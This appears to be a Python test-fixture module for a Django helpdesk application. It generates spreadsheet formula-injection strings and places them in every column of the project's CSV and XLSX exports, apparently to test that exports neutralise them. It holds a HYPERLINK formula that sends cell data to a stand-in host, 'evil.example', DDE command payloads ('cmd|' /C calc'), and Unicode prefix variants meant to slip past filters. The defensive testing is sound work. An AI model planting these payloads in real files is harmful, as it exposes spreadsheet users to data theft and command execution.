"""Sixty beginnings that a spreadsheet may take for a formula, and every file of ours with each of them in every column."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass

from django.urls import reverse

from cpms.accounts.models import Centre, Network, ThematicGroup
from cpms.accounts.roles import Role
from helpdesk import kpis
from helpdesk.exports import figures_as, header_of
from helpdesk.kpis.periods import Sum
from helpdesk.models import MonthlyKpi
from helpdesk.people import actions
from helpdesk.people.importers.columns import NAMES
from helpdesk.states import Kind
from tests.clients import signed_in
from tests.factories import GroupFactory, UserFactory, give_role

SIGNS = ("=", "+", "-", "@")
BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", "\x00", "\u3000", "\u202e", "\u2028")
WIDE = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
CALLS = {
    "=": 'HYPERLINK("http://evil.example?x="&A1,"open")',
    "+": "1+cmd|' /C calc'!A0",
    "-": "2+3+cmd|' /C calc'!A0",
    "@": "SUM(1+1)*cmd|' /C calc'!A0",
}
FORMULAS = [f"{before}{sign}{CALLS[sign]}" for before in BEFORE for sign in SIGNS]
FORMULAS += [f"{before}{wide}1+1" for before in BEFORE[:3] for wide in WIDE]
READABLE = [text for text in FORMULAS if "\x00" not in text]
"""A table with a NUL in it is refused, wherever it stands."""


@dataclass(frozen=True)
class File:
    """A file as it leaves: ``columns`` of them hold a hostile text in each of its rows."""

    name: str
    data: bytes
    columns: int
    texts: int = len(FORMULAS)


def figures(kind: Kind) -> File:
    """One row for each formula; every cell of it is that text: period, names of places, and figures as if one were a text."""
    rows = []
    for text in FORMULAS:
        network = Network(code="X", name=text)
        line = MonthlyKpi(network=network, centre=Centre(name=text, country="FI"), country=text)
        line.group = ThematicGroup(network=network, number=1, name=text)
        rows.append(Sum(line, 1, {figure.name: text for figure in kpis.FIGURES}, []))
    period = kpis.Period(FORMULAS[0], kpis.period_of("2024-01").months)
    return File(f"figures.{kind}", b"".join(figures_as(kind, rows, period)), len(header_of(period)) - 1)


def tables() -> Iterator[File]:
    """The rows to mend of a table of hospitals and of one of people, as the page gives them."""
    network = GroupFactory(number=1).network
    coordinator = UserFactory(role="none")
    give_role(coordinator, Role.NETWORK_COORDINATOR, network=network)
    for kind, names in NAMES.items():
        header = [name.replace("_", " ") for name in names]
        out = io.StringIO()
        csv.writer(out, quoting=csv.QUOTE_ALL).writerows([header, *([text] * len(header) for text in READABLE)])
        table = actions.read_table(network, data=out.getvalue().encode(), name="list.csv", by=coordinator)
        answer = signed_in(coordinator).get(reverse("people:table_to_mend", args=[table.pk]), secure=True)
        yield File(f"{kind}-to-mend.csv", answer.content, len(header), len(READABLE))


def files() -> list[File]:
    return [figures(Kind.CSV), figures(Kind.XLSX), *tables()]
